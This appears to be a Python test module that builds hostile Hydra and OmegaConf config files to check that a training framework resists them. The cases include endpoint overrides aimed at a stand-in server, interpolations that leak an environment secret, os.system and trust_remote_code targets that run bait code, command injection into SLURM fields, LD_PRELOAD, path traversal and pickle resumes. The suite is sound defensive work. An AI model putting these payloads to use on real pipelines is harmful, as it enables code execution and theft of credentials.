"""What files of others must never do: run a model's own code, send what they read, or choose who
receives results.

`<server>` stands for the host and port of a server that counts who calls it. `<bait>` and
`<outside>` are folders as in `targets`. The environment holds a secret, `FLATOUT_HOSTILE`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import yaml

from tests.hostile.targets import Case

SECRET = "sk-live-topsecret"
ENVIRONMENT = {
    "FLATOUT_HOSTILE": SECRET,
    "AWS_ACCESS_KEY_ID": "AKIAVICTIM",
    "AWS_SECRET_ACCESS_KEY": SECRET,
    "AWS_EC2_METADATA_DISABLED": "true",
}
OF_ENVIRONMENT = "${oc.env:FLATOUT_HOSTILE}"
_ASKED = "endpoint_override=<server>&scheme=http&region=us-east-1"
ADDRESSES = {
    "an endpoint": f"s3://bucket/key?{_ASKED}",
    "an endpoint and a secret": f"s3://bucket/{OF_ENVIRONMENT}?{_ASKED}",
    "an endpoint in capitals": f"S3://bucket/key?{_ASKED}",
    "an encoded endpoint": "s3://bucket/key?endpoint%5Foverride=127.0.0.1%3A9&scheme=http",
    "credentials": "s3://AKIA:secret@bucket/key",
    "a blank before it": f" s3://bucket/key?{_ASKED}",
    "gs": "gs://anonymous@bucket/key?endpoint_override=<server>&scheme=http",
    "gcs": "gcs://bucket/key?endpoint_override=<server>",
    "abfs": "abfs://container@account/key?blob_storage_authority=<server>",
    "abfss": "abfss://account:key@container/key?dfs_storage_authority=<server>",
    "hdfs": "hdfs://<server>/key",
    "viewfs": "viewfs://<server>/key",
    "hf": "hf://datasets/somebody/rows/train.csv",
    "fsspec": "fsspec+http://<server>/key.csv",
    "http": "http://<server>/key.csv",
    "chained": "simplecache::http://<server>/key.csv",
    "a local file": "file:///etc/hostname",
    "a file with a host": "file://<server>/share/key.csv",
    "a file with one slash": "file:/etc/hostname",
    "UNC by slashes": "smb://<server>/share/key.csv",
}
"""Addresses that a file could name as its source."""

READING = {
    "the environment": OF_ENVIRONMENT,
    "a default": "${oc.env:NOWHERE,${oc.env:FLATOUT_HOSTILE}}",
    "oc.decode": "${oc.decode:${oc.env:FLATOUT_HOSTILE}}",
    "oc.decode of an escape": "${oc.decode:'\\${oc.env:FLATOUT_HOSTILE}'}",
    "oc.create": "${oc.create:${oc.env:FLATOUT_HOSTILE}}",
    "oc.select": "${oc.select:nowhere,${oc.env:FLATOUT_HOSTILE}}",
    "oc.dict.values": "${oc.dict.values:data}",
    "a resolver's name by reference": "${oc.${trainer.x}:FLATOUT_HOSTILE}",
    "blanks": "${ oc.env : FLATOUT_HOSTILE }",
    "what was typed": "${hydra:overrides.task}",
    "a reference inside a reference": "${data.${trainer.x}}",
    "the middle of a text": f"run-{OF_ENVIRONMENT}-x",
}
"""Ways to read a secret into a value."""

REFERRING = {
    "by its key": "${data.encoding.secret}",
    "by brackets": "${data[encoding][secret]}",
    "by brackets and points": "${data[encoding].secret}",
    "by a mapping above it": "${data.encoding}",
    "with blanks": "${ data.encoding.secret }",
    "beside text": "x-${data.encoding.secret}",
}
"""Ways to copy a secret that was typed."""


def sending_cases() -> list[Case]:
    """Every case."""
    return [
        *_of_code(),
        *_of_addresses(),
        *_of_secrets(),
        *_of_receivers(),
        *_of_sweeps(),
        *_of_folders(),
        *_of_defaults(),
        *_of_hydras_own(),
        *_of_parts(),
    ]


PARTS = (
    "an address of two parts, and nothing else",
    "mlflow under another name",
    "a log that Hydra opens before a run begins",
    "an environment beside +hydra.job.env_set.A=1",
    "a secret that Hydra keeps in a file",
    "a sweep in a file of a folder",
    "a sweeper that is os.system",
    "settings 1 of the launcher submitit_local",
    "settings 1 of the launcher submitit_slurm",
    "settings 3 of the launcher submitit_slurm",
)
"""Names of cases that put together what is harmless in each part, one of each kind."""


def as_choice(value: str) -> str:
    """A value of a search as a choice, where it is none already."""
    return value if "(" in value else f"choice({value})"


def _file(
    name: str, settings: str | dict[str, object], *words: str, is_whole: bool = False
) -> Case:
    text = "# @package _global_\n" + (
        settings if isinstance(settings, str) else yaml.safe_dump(settings)
    )
    return Case(
        name,
        ("+experiment=evil", *words),
        {"experiment/evil.yaml": text},
        ENVIRONMENT,
        is_whole=is_whole,
    )


def backbone(folder: str, **more: Any) -> dict[str, Any]:
    """A layer of transformers that loads the network of a folder by a config, which
    here is none.
    """
    settings = {
        "use_timm_backbone": False,
        "use_pretrained_backbone": True,
        "backbone": folder,
    }
    trust = {"backbone_kwargs": {"trust_remote_code": True}}
    config = {
        "_target_": "torch.nn.ParameterDict",
        "parameters": {
            **settings,
            **trust,
            **more,
        },
    }
    return {"_target_": "transformers.models.detr.modeling_detr.DetrConvEncoder", "config": config}


def _of_code() -> Iterator[Case]:
    asking: dict[str, Any] = {"auto_map": {"AutoBackbone": "<bait>/backbone--evil.EvilBackbone"}}
    asking |= {"_name_or_path": "<bait>/backbone", "name_or_path": "<bait>/backbone"}
    nothing: dict[str, Any] = {}
    for folder, more in (
        ("<bait>/remote", nothing),
        ("<bait>/backbone", nothing),
        ("asked for", asking),
    ):
        call = backbone(folder, **more)
        yield _file(f"code of {folder} by a layer", {"callbacks": {"x": call}})
        inner = {"_target_": "torch.nn.Sequential", "_args_": [call]}
        yield _file(f"code of {folder} by a layer in a layer", {"callbacks": {"x": inner}})
    call = backbone("<bait>/remote") | {"_recursive_": False}
    yield _file("code by a layer that is not recursive", {"callbacks": {"x": call}})
    call = backbone("<bait>/remote") | {"_target_": "transformers.DetrForObjectDetection"}
    yield _file("code by a model at a door", {"callbacks": {"x": call}})
    for name in (
        "auto.modeling_auto.AutoModel",
        "auto.modeling_auto.AutoBackbone",
        "bert.modeling_bert.BertModel",
    ):
        settings = {"_target_": f"transformers.models.{name}", "_args_": ["<bait>/remote"]}
        yield _file(f"code by {name}", {"callbacks": {"x": settings}})
    shared = (
        "callbacks:\n  x: &x {_target_: transformers.models.detr.modeling_detr.DetrConvEncoder,"
        " config: {}}\n"
    )
    yield _file("code by an anchor", f"{shared}  y: *x\n")


def _of_addresses() -> Iterator[Case]:
    for name, address in ADDRESSES.items():
        yield _file(f"data.source by {name}", {"data": {"source": address}})
    first = ADDRESSES["an endpoint"]
    for key in ("train", "validation", "test", "tokenizer", "cache"):
        yield _file(f"data.{key} by an endpoint", {"data": {key: first}})
    yield _file("a list of sources", {"data": {"source": ["rows.csv", first]}})
    yield _file(
        "an address in two parts",
        {"name": "s3:", "data": {"source": "${name}//bucket/${oc.env:HOME}"}},
    )
    pretrained = (
        "defaults: [override /model: transformer]\nmodel: {pretrained: 'https://<server>/model'}\n"
    )
    yield _file("a network by an address", pretrained)
    files = {"data/evil.yaml": f"defaults: [text]\nsource: {json.dumps(first)}\n"}
    yield Case("an option of data", ("data=evil",), files, ENVIRONMENT)
    logger = {
        "_target_": "lightning.pytorch.loggers.TensorBoardLogger",
        "save_dir": "s3://bucket/x",
    }
    yield _file("a logger's folder", {"trainer": {"logger": [logger]}})
    callback = {
        "_target_": "lightning.pytorch.callbacks.ModelCheckpoint",
        "dirpath": "http://<server>/x",
    }
    yield _file("a checkpoint's folder", {"callbacks": {"x": callback}})


def _of_secrets() -> Iterator[Case]:
    for name, text in READING.items():
        yield _file(f"a name of {name}", {"name": text, "trainer": {"x": "env"}})
    for key in (
        "data.source",
        "data.tokenizer",
        "logger.csv.folder",
        "checkpoint.metric",
        "resume",
    ):
        settings: Any = OF_ENVIRONMENT
        for part in reversed(key.split(".")):
            settings = {part: settings}
        yield _file(f"{key} of the environment", settings)
    yield _file("a Hub name of the environment", {"data": {"source": f"somebody/{OF_ENVIRONMENT}"}})
    yield _file("callbacks of the environment", {"callbacks": OF_ENVIRONMENT})
    yield _file("a list of the environment", {"trainer": {"x": [1, [OF_ENVIRONMENT]]}})
    secret = "data.encoding.secret='${oc.env:FLATOUT_HOSTILE}'"
    for name, text in REFERRING.items():
        yield _file(f"a typed secret {name}", {"name": text}, "data=bits", secret)
    relative = "defaults: [override /data: bits]\ndata: {source: 'somebody/${.encoding.secret}'}\n"
    yield _file("a typed secret from beside it", relative, secret)
    yield _file("the same words as were typed", {"name": OF_ENVIRONMENT}, "data=bits", secret)
    typed = "+trainer.x='${oc.env:FLATOUT_HOSTILE}'"
    yield _file("another typed value of the environment", {"name": "${trainer.x}"}, typed)


def _of_receivers() -> Iterator[Case]:
    receivers = (
        "http://<server>",
        "databricks",
        "sqlite:////<outside>/x.db",
        "file:<outside>",
        "<outside>",
        "${name}",
        OF_ENVIRONMENT,
    )
    for uri in receivers:
        text = (
            "defaults: [override /logger: mlflow]\nlogger: {mlflow: {tracking_uri:"
            f" {json.dumps(uri)}}}}}\n"
        )
        yield _file(f"MLflow at {uri}", text, "name=x")
    entity = "defaults: [override /logger: wandb]\nlogger: {wandb: {entity: somebody}}\n"
    yield _file("an entity of W&B", entity)
    files = {
        "logger/evil.yaml": (
            "# @package logger.mlflow\n_target_: flatout.callbacks.loggers.MLflowConfig\n"
        )
    }
    files["logger/evil.yaml"] += "tracking_uri: http://<server>\n"
    yield Case("an option of logger", ("logger=[evil]",), files, ENVIRONMENT)
    for name in ("MLFlowLogger", "WandbLogger", "CometLogger", "NeptuneLogger", "LitLogger"):
        settings = {
            "_target_": f"lightning.pytorch.loggers.{name}",
            "host": "<server>",
            "base_url": "<server>",
        }
        yield _file(f"Lightning's {name}", {"trainer": {"logger": settings}})


def _of_sweeps() -> Iterator[Case]:
    searched: dict[str, dict[str, str]] = {
        "an address": {"data.source": "s3://bucket/x?endpoint_override=<server>"},
        "an escaped address": {"data.source": "s3\\://bucket/x?endpoint_override=<server>"},
        "a secret": {"name": "'${oc.env:FLATOUT_HOSTILE}',b"},
        "a reference": {"data.source": "'${name}//bucket','${name}'"},
        "trust": {"allow_targets": "[evil]", "+callbacks.x._target_": "evil.Evil"},
        "trust with a plus sign": {
            "+allow_targets": "[evil]",
            "+callbacks.x._target_": "evil.Evil,evil.call",
        },
        "MLflow": {"logger": "mlflow", "logger.mlflow.tracking_uri": "databricks"},
        "a folder": {"hydra.sweep.dir": "<outside>/a,<outside>/b"},
        "commands for a cluster": {"launcher.setup": "[evil],[call]"},
        "a run to resume": {"resume": "<outside>/a,<outside>/b"},
        "W&B": {"logger": "wandb", "logger.wandb.entity": "somebody,others"},
    }
    for name, params in searched.items():
        settings = {"hydra": {"mode": "MULTIRUN", "sweeper": {"params": params}}}
        yield _file(f"a sweep in a file of {name}", settings, is_whole=True)
        space = {key: as_choice(value) for key, value in params.items()}
        text = yaml.safe_dump({"hydra": {"mode": "MULTIRUN", "sweeper": {"space": space}}})
        head = "defaults: [override /hydra/sweeper: flatout]\n"
        yield _file(f"a search in a file of {name}", head + text, is_whole=True)
    for key in ("run.dir", "sweep.dir", "job.name"):
        group, name = key.split(".")
        settings = {"hydra": {group: {name: "${output}/" + OF_ENVIRONMENT}}}
        yield _file(f"hydra.{key} of the environment", settings, is_whole=True)


def _of_folders() -> Iterator[Case]:
    for folder in ("<outside>", "../../outside/x", "~/x", "file:<outside>"):
        target = "flatout.callbacks.profile_steps.ProfileSteps"
        yield _file(
            f"a profile in {folder}", {"callbacks": {"p": {"_target_": target, "folder": folder}}}
        )
    target = "flatout.callbacks.profile_steps.ProfileSteps"
    settings = {"_target_": target, "folder": "${output}/../../outside"}
    yield _file("a profile above the folder of runs", {"callbacks": {"p": settings}})
    yield _file("a cache elsewhere", {"data": {"cache": "<outside>/cache"}})
    yield _file("a cache beside the folder of runs", {"data": {"cache": "../../outside/cache"}})
    files = {"data/evil.yaml": "defaults: [text]\ncache: <outside>/cache\n"}
    yield Case("a cache by an option of data", ("data=evil",), files, ENVIRONMENT)
    searched = {"params": {"data.cache": "<outside>/a,<outside>/b"}}
    settings = {"hydra": {"mode": "MULTIRUN", "sweeper": searched}}
    yield _file("a sweep in a file of caches", settings, is_whole=True)
    yield _file("a run elsewhere that is resumed", {"resume": "<outside>/store"}, is_whole=True)
    yield _file("a pickle that is resumed", {"resume": "<bait>/payload.pt"}, is_whole=True)
    tensorboard = "flatout.callbacks.loggers.RunTensorBoard"
    settings = {"trainer": {"logger": [{"_target_": tensorboard, "save_dir": "<outside>"}]}}
    yield _file("our TensorBoard elsewhere", settings)
    checkpoints = "lightning.pytorch.callbacks.ModelCheckpoint"
    settings = {"_target_": checkpoints, "dirpath": "${output}/../../outside", "save_last": True}
    yield _file("checkpoints above the folder of runs", {"callbacks": {"x": settings}})
    spikes = "lightning.pytorch.callbacks.SpikeDetection"
    settings = {"_target_": spikes, "exclude_batches_path": "<outside>/x.json"}
    yield _file("spikes elsewhere", {"callbacks": {"x": settings}})


def _of_defaults() -> Iterator[Case]:
    """Which files are taken in, by what the environment holds."""
    for name, listed in {
        "an option of the environment": "/model: ${oc.env:FLATOUT_HOSTILE}",
        "a file of the environment": "${oc.env:FLATOUT_HOSTILE}",
        "an optional file of the environment": "optional /data: ${oc.env:FLATOUT_HOSTILE}",
        "an override of the environment": "override /data: ${oc.env:FLATOUT_HOSTILE}",
        "a default that is decoded": "/data: ${oc.decode:${oc.env:FLATOUT_HOSTILE}}",
        "a default of Hydra's own": "/data: ${hydra:runtime.cwd}",
    }.items():
        text = yaml.safe_dump({"defaults": [listed]})
        if ": " in listed:
            group, option = listed.split(": ", 1)
            text = yaml.safe_dump({"defaults": [{group: option}]})
        yield _file(name, text, is_whole=True)
    text = "defaults: [{/data: '${oc.env:FLATOUT_HOSTILE}'}]\n"
    guesses = {f"data/{SECRET}.yaml": "defaults: [text]\nsource: somebody/guessed-right\n"}
    files = {"experiment/evil.yaml": f"# @package _global_\n{text}", **guesses}
    yield Case("a guess at a secret", ("+experiment=evil",), files, ENVIRONMENT, is_whole=True)
    yield _file("a file above the folder of settings", "defaults: [/../../outside/x]\n")


def _of_hydras_own() -> Iterator[Case]:
    """What files could say of how and where Hydra runs."""
    runtime = {"output_dir": "<outside>/x"}
    profile = "flatout.callbacks.profile_steps.ProfileSteps"
    settings = {
        "hydra": {"runtime": runtime},
        "callbacks": {"p": {"_target_": profile, "folder": "<outside>/x"}},
    }
    yield _file("a folder of runs that Hydra is said to have", settings, is_whole=True)
    for launcher, words in {
        "joblib": ("{temp_folder: <outside>/x}",),
        "submitit_local": ("{submitit_folder: <outside>/x}", "{submitit_folder: ../../outside/x}"),
        "submitit_slurm": (
            "{setup: ['touch <canary>'], submitit_folder: <outside>/x}",
            '{comment: "x\\ntouch <canary>\\n"}',
            '{partition: "x\\rtouch <canary>\\n"}',
            "{qos: '${hydra.help.header}'}",
        ),
    }.items():
        # a file cannot choose the launcher, but its settings count where one is typed
        for number, written in enumerate(words):
            text = f"hydra: {{mode: MULTIRUN, launcher: {written}, sweeper: {{params: {{seed:"
            text += " '0,1'}}, help: {header: \"x\\ntouch <canary>\\n\"}}\n"
            name = f"settings {number} of the launcher {launcher}"
            yield _file(name, text, f"hydra/launcher={launcher}", is_whole=True)
    evil = "{_target_: os.system, _args_: ['touch <canary>']}"
    unknown = "{q: '${hydra.job.num}'}"  # a value that Hydra knows only when a run begins
    for place in ("job_logging", "hydra_logging", "hydra_help"):
        parts = f"{{evil: '${{hydra.{place}.evil}}', other: {unknown}}}"
        text = f"hydra: {{{place}: {{evil: {evil}}}, callbacks: {parts}}}\n"
        yield _file(f"a callback that stands in {place}", text, is_whole=True)
    parts = f"{{evil: '${{callbacks.evil}}', other: {unknown}}}"
    text = f"callbacks: {{evil: {evil}}}\nhydra: {{callbacks: {parts}}}\n"
    yield _file("a callback of Hydra that stands among those of the run", text, is_whole=True)
    sweeper = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper"
    sweeper += ", max_batch_size: null, params: {seed: '1,2'}"
    sweeper += ", z: '${hydra.job_logging.evil}', y: '${hydra.job.num}'"
    text = "defaults: [/experiment@_global_: none, _self_]\nhydra: {mode: MULTIRUN, "
    text += f"job_logging: {{evil: {evil}}}, sweeper: {{{sweeper}}}}}\n"
    files = {
        "experiment/evil.yaml": f"# @package _global_\n{text}",
        "experiment/none.yaml": "# @package _global_\nhydra: {sweeper: null}\n",
    }
    name = "another sweeper where a file has taken ours away"
    yield Case(name, ("+experiment=evil",), files, ENVIRONMENT, is_whole=True)
    other = "hydra_plugins.hydra_submitit_launcher.submitit_launcher.LocalLauncher"
    text = "defaults: [/experiment@_global_: none, _self_]\nhydra: {mode: MULTIRUN, launcher: "
    text += f"{{_target_: {other}}}, sweeper: {{params: {{seed: '0,1'}}}}}}\n"
    files = {
        "experiment/evil.yaml": f"# @package _global_\n{text}",
        "experiment/none.yaml": "# @package _global_\nhydra: {launcher: null}\n",
    }
    name = "another launcher where a file has taken ours away"
    yield Case(name, ("+experiment=evil",), files, ENVIRONMENT, is_whole=True)
    for target in ("os.system", "hydra_plugins.flatout_trials.TrialLauncher", "7"):
        settings = {"hydra": {"mode": "MULTIRUN", "sweeper": {"_target_": target}}}
        yield _file(f"a sweeper that is {target}", settings, is_whole=True)
    settings = {"hydra": {"job": {"num": 5, "id": "5"}}}
    yield _file("the number of a trial", settings, is_whole=True)
    for name in ("../../outside/x", "<outside>/x", "${oc.env:HOME}"):
        settings = {"hydra": {"job": {"name": name}}}
        yield _file(f"a job named {name}", settings, is_whole=True)
        settings = {"hydra": {"output_subdir": name}}
        yield _file(f"Hydra's own files in {name}", settings, is_whole=True)
    for written in ("${now:../../outside/x}", "${output}/${now:../../outside/x}"):
        settings = {"hydra": {"run": {"dir": written}}}
        yield _file(f"a path in the format of a time, {written}", settings, is_whole=True)
    yield _file("a name in the format of a time", {"name": "${now:../../outside/x}"}, is_whole=True)
    yield _file("a search path in a file", "hydra: {searchpath: ['pkg://evilpackage']}\n")


def _of_parts() -> Iterator[Case]:
    """What is harmless in each part: two files, a file and a typed word, a value and its name."""
    parts = {"label": "s3:", "source": f"${{data.label}}//bucket/key?{_ASKED}"}
    yield _file(PARTS[0], {"data": parts})
    for kind, setting in (("mlflow", "tracking_uri: <outside>/x"), ("wandb", "entity: somebody")):
        text = f"defaults: [/schema/logger@logger.mine: {kind}]\nlogger: {{mine: {{{setting}}}}}\n"
        yield _file(f"{kind} under another name", text)
        text = f"defaults: [/schema/logger@logger[a.b]: {kind}]\n"
        text += f"logger: {{a.b: {{{setting}}}}}\n"
        yield _file(f"{kind} under a name with a dot", text)
    for written in ("../../outside/x", "/tmp/x"):
        text = (
            f"defaults: [override /logger: trackio]\nlogger: {{trackio: {{project: {written}}}}}\n"
        )
        yield _file(f"a project of Trackio in {written}", text)
    yield _file("a registry of models", {"trainer": {"model_registry": "somebody/models"}})
    name = "${hydra.runtime.output_dir}/${hydra.job.name}.log"
    log = f"{{class: logging.FileHandler, filename: '{name}'}}"
    text = "defaults: [override /hydra/hydra_logging: default]\nhydra:\n"
    text += "  runtime: {output_dir: <outside>}\n"
    text += f"  hydra_logging: {{handlers: {{file: {log}}}, root: {{handlers: [file]}}}}\n"
    yield _file(PARTS[2], text, is_whole=True)
    settings = {"hydra": {"job": {"env_set": {"LD_PRELOAD": "<bait>/evil.so"}}}}
    for word in ("+hydra.job.env_set.A=1", "hydra.job.env_copy=[HOME]"):
        yield _file(f"an environment beside {word}", settings, word)
    text = "defaults: [override /hydra/launcher: submitit_slurm]\n"
    text += "hydra: {mode: MULTIRUN, launcher: {additional_parameters: {wrap: 'touch <canary>'}}}\n"
    word = "+hydra.launcher.additional_parameters.nodes=1"
    yield _file("words of a scheduler beside a typed one", text, word, is_whole=True)
    words = ("model=transformer", "+model.settings.api_key=sw0rdfish")
    settings = {"hydra": {"output_subdir": ".hydra"}}
    yield _file("a secret that Hydra keeps in a file", settings, *words)
    referred = ("data=people", "model=bitmlp", "task=grams")
    referred += ("data.encoding.secret=${oc.env:FLATOUT_HOSTILE}",)
    dirname = {"config": {"override_dirname": {"exclude_keys": ["data", "model", "task"]}}}
    run = {"dir": "${output}/x/${hydra.job.override_dirname}"}
    settings = {"hydra": {"run": run, "job": dirname}}
    yield _file("the value of a typed reference in a folder's name", settings, *referred)
    settings = {"hydra": {"run": {"dir": "${output}/${hydra.job.override_dirname}"}}}
    yield _file("a secret that Hydra keeps in a name", settings, *words)
    for number, (source, more) in enumerate(
        (
            ("${.label}//bucket/x", {}),
            ("${data[label]}//bucket/x", {}),
            ("s3:/${data.join}bucket/x", {"join": "/"}),
        )
    ):
        data = {"label": "s3:", "source": source, **more}
        yield _file(f"an address of parts by reference {number}", {"data": data})
    copied = {"_target_": "torch.nn.Identity", "p": "s3:", "u": "${.p}//bucket"}
    yield _file("an address of parts in a callback", {"callbacks": {"a": copied}})
    inner = {"_target_": "functools.partial", "_args_": ["os.mkdir", "<canary>"]}
    outer = {"_target_": "torch.nn.Sequential", "_args_": "${trainer.plugins}"}
    settings = {"trainer": {"plugins": [inner]}, "callbacks": {"x": outer}}
    yield _file("a partial in arguments by reference", settings)
    for package, text in {
        "hydra": "runtime: {output_dir: <outside>}\n",
        "hydra.job.env_set": "LD_PRELOAD: <bait>/evil.so\n",
    }.items():
        files = {"experiment/evil.yaml": f"# @package {package}\n{text}"}
        yield Case(f"a file that is a part of {package}", ("+experiment=evil",), files, ENVIRONMENT)
